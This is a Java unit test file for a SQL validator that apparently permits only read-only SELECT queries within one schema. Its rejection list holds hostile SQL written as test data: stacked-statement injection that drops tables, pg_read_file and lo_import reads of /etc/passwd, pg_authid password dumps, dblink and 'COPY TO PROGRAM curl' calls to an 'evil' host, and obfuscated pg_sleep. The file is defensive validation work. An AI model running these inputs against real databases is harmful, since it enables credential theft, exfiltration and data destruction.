package dev.analyst.execution.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SqlValidatorTests {

    private static final String SCHEMA = "warehouse_acme";

    private static final SqlValidator validator = new SqlValidator();

    @AfterAll
    static void closeValidator() {
        validator.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT count(*) FROM t",
                "select region, sum(amount) as total from sales group by region order by total desc limit 10",
                "SELECT s.region, c.name FROM sales s JOIN customers c ON c.id = s.customer_id WHERE s.amount > 10",
                "SELECT * FROM warehouse_acme.sales LEFT JOIN \"warehouse_acme\".customers USING (customer_id)",
                "WITH monthly AS (SELECT date_trunc('month', sold_at) AS m, sum(amount) AS total FROM sales GROUP BY 1)"
                        + " SELECT m, total, lag(total) OVER (ORDER BY m) FROM monthly",
                "SELECT region, rank() OVER (PARTITION BY region ORDER BY amount DESC) FROM sales",
                "SELECT sum(amount) OVER (ORDER BY sold_at ROWS BETWEEN 6 PRECEDING AND CURRENT ROW) FROM sales",
                "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) FROM sales",
                "SELECT region, percentile_disc(0.9) WITHIN GROUP (ORDER BY amount) AS p90 FROM sales GROUP BY region",
                "SELECT corr(price, quantity), stddev(price), var_samp(price) FROM sales",
                "SELECT count(*) FILTER (WHERE amount > 100) FROM sales",
                "SELECT extract(year FROM sold_at) AS y, to_char(sold_at, 'YYYY-MM') FROM sales",
                "SELECT coalesce(region, 'unknown'), nullif(amount, 0), amount::numeric(10, 2) FROM sales",
                "SELECT CAST(amount AS integer), CASE WHEN amount > 10 THEN 'big' ELSE 'small' END FROM sales",
                "SELECT * FROM sales WHERE sold_at >= now() - interval '30 days' AND region ILIKE '%north%'",
                "SELECT DISTINCT ON (region) region, amount FROM sales ORDER BY region, amount DESC NULLS LAST",
                "SELECT region FROM sales UNION ALL SELECT region FROM returns",
                "SELECT region FROM sales INTERSECT SELECT region FROM returns EXCEPT SELECT 'x'",
                "SELECT * FROM sales WHERE customer_id IN (SELECT id FROM customers WHERE country = 'BR')",
                "SELECT * FROM sales s WHERE EXISTS (SELECT 1 FROM returns r WHERE r.sale_id = s.id)",
                "SELECT g FROM generate_series(1, 10) AS g",
                "SELECT count(*) FROM generate_series(1,100000000000)",
                "SELECT upper(name) || ' ' || lower(city), length(name), round(avg(amount), 2) FROM c GROUP BY 1, 2",
                "SELECT date_trunc('week', sold_at) AS week, count(DISTINCT customer_id) FROM sales GROUP BY week",
                "SELECT region, sum(amount) FROM sales GROUP BY ROLLUP (region)",
                "SELECT string_agg(name, ', ' ORDER BY name) FROM customers",
                "SELECT * FROM sales ORDER BY amount DESC OFFSET 5 FETCH FIRST 10 ROWS ONLY",
                "SELECT 'it''s', E'plain escape string' FROM sales;",
                "SELECT x FROM (VALUES (1), (2)) AS v(x)",
                "SELECT trim(both ' ' FROM name), sold_at AT TIME ZONE 'UTC' FROM sales",
                "SELECT a.* FROM sales a -- trailing comment",
                "/* leading comment */ SELECT 1",
                "WITH pg_stats_like AS (SELECT 1 AS x) SELECT x FROM pg_stats_like"
            })
    void acceptsReadOnlyQueries(String sql) {
        assertThat(validator.validate(sql, SCHEMA).sql()).isEqualTo(sql);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DROP TABLE t",
                "DELETE FROM t",
                "INSERT INTO t VALUES (1)",
                "UPDATE t SET a = 1",
                "TRUNCATE t",
                "CREATE TABLE x (a int)",
                "ALTER TABLE t ADD COLUMN b int",
                "GRANT SELECT ON t TO public",
                "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
                "WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x",
                "WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x",
                "SELECT * INTO copy_of_t FROM t",
                "SELECT * FROM t FOR UPDATE",
                "SELECT * FROM t FOR SHARE",
                "SELECT * FROM t FOR NO KEY UPDATE",
                "SELECT 1; SELECT 2",
                "SELECT 1; DROP TABLE t",
                "SELECT 'a\\' ; DROP TABLE t; --'",
                "BEGIN",
                "BEGIN; SELECT 1; COMMIT",
                "COMMIT",
                "ROLLBACK",
                "START TRANSACTION READ WRITE",
                "SET ROLE postgres",
                "SET search_path = public",
                "RESET ALL",
                "RESET ROLE",
                "SELECT pg_read_file('/etc/passwd')",
                "SELECT pg_sleep(10)",
                "SELECT pg_catalog.pg_sleep(10)",
                "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
                "SELECT dblink_exec('host=evil', 'DROP TABLE t')",
                "SELECT set_config('role', 'postgres', false)",
                "SELECT current_setting('data_directory')",
                "SELECT lo_import('/etc/passwd')",
                "SELECT query_to_xml('DELETE FROM t', true, true, '')",
                "SELECT nextval('s')",
                "COPY t TO '/tmp/x'",
                "COPY (SELECT 1) TO PROGRAM 'curl evil'",
                "SELECT * FROM pg_catalog.pg_authid",
                "SELECT rolpassword FROM pg_authid",
                "SELECT * FROM pg_settings",
                "SELECT * FROM information_schema.tables",
                "SELECT * FROM other_schema.t",
                "SELECT * FROM warehouse_acme.t JOIN warehouse_globex.t USING (id)",
                "SELECT warehouse_globex.t.id FROM t",
                "SELECT warehouse_globex.t.* FROM t",
                "SELECT * FROM analyst.warehouse_acme.t",
                "SELECT 'pg_authid'::regclass",
                "SELECT CAST('pg_sleep' AS regproc)",
                "SELECT E'\\'', pg_sleep(1) --'",
                "SELECT U&\"\\0070g_sleep\"(10)",
                "SELECT $$ x $$",
                "SELECT $1",
                "SELECT 1 /* nested /* comment */ */",
                "SELECT count(*) FROM t WHERE",
                "this is not sql at all",
                "SELECT \"pg_sleep\"(1)",
                "SELECT sum(x) OVER () FROM t WHERE pg_sleep(1) IS NOT NULL",
                "SELECT (SELECT pg_sleep(1)) FROM t",
                "SELECT * FROM t WHERE a IN (SELECT pg_read_file('x'))",
                "SELECT * FROM (SELECT * FROM pg_catalog.pg_user) u",
                "   "
            })
    void rejectsEverythingButOneReadOnlyQuery(String sql) {
        assertThatThrownBy(() -> validator.validate(sql, SCHEMA)).isInstanceOf(SqlRejected.class);
    }

    @Test
    void rejectsDdlStatementsNamingTheStatement() {
        assertThatThrownBy(() -> validator.validate("DROP TABLE t", SCHEMA))
                .hasMessage("Only a read-only SELECT query is allowed; found DROP.");
    }

    @Test
    void rejectsDataModifyingCte() {
        assertThatThrownBy(() -> validator.validate("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", SCHEMA))
                .hasMessageContaining("DELETE");
    }

    @Test
    void refusesUnparseableSqlAsCannotValidate() {
        assertThatThrownBy(() -> validator.validate("SELEC count(*) FROM t", SCHEMA))
                .hasMessageContaining("cannot be validated");
    }

    @Test
    void namesTheFunctionItRefuses() {
        assertThatThrownBy(() -> validator.validate("SELECT pg_sleep(10)", SCHEMA))
                .hasMessageContaining("pg_sleep is not allowed");
    }

    @Test
    void doesNotRevealWhetherAnotherSchemaExists() {
        assertThatThrownBy(() -> validator.validate("SELECT * FROM other_schema.t", SCHEMA))
                .hasMessage("Only this dataset's tables can be queried; other_schema.t is outside it.");
    }

    @Test
    void normalisesWhitespaceAndCommentsButNotLiterals() {
        var first = validator.validate("SELECT  a,\n\tb -- note\nFROM t WHERE c = 'x  y'", SCHEMA);
        var second = validator.validate("SELECT a, b FROM t /* other */ WHERE c = 'x  y'", SCHEMA);
        var third = validator.validate("SELECT a, b FROM t WHERE c = 'x y'", SCHEMA);

        assertThat(first.normalised()).isEqualTo(second.normalised()).isEqualTo("SELECT a, b FROM t WHERE c = 'x  y'");
        assertThat(third.normalised()).isNotEqualTo(first.normalised());
    }
}
